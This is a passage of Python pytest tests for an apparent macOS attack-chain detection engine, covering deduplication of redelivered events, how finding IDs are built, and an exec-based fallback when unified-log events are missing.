@pytest.mark.parametrize("name", sorted(SCENARIOS))
def test_chain_redelivered_events_no_duplicate_finding(name: str) -> None:
    events = SCENARIOS[name]().events
    engine = Engine(load_policy(), InMemoryStore(), clock=lambda: 0)
    engine.ingest_all(events)
    first = engine.flush()
    engine.ingest_all(events)  # at-least-once delivery: the whole batch again
    engine.ingest_all(reversed(events))
    assert engine.flush() == []  # nothing new, nothing changed
    assert engine.all_findings() == sorted(first, key=lambda f: (f.first_seen_ns, f.finding_id))
    assert len({f.finding_id for f in engine.all_findings()}) == len(engine.all_findings())


def test_chain_finding_id_is_host_app_and_stage3() -> None:
    s, images = word_macro()
    finding = only(run(s.events))
    moved = only(run([replace(e, host="mac-02") for e in s.events]))
    assert moved.finding_id != finding.finding_id
    assert finding.stage3_key == images["sh"].entity_id
    assert finding.app_key == "Microsoft Word/701"
    assert finding.finding_id.startswith("cw-") and len(finding.finding_id) == 35


# Without unified-log activity, the app's exec is stage 1 and the finding says which evidence it used.
def test_chain_without_unified_log_uses_exec_fallback() -> None:
    s, _ = word_macro()
    events = [e for e in s.events if e.source.value != "unifiedlog"]
    finding = only(run(events))
    assert stage(finding, 1).method.startswith("process exec")
    assert stage(finding, 1).time_ns == at(0)
    assert finding.stage_numbers == (1, 2, 3, 4)
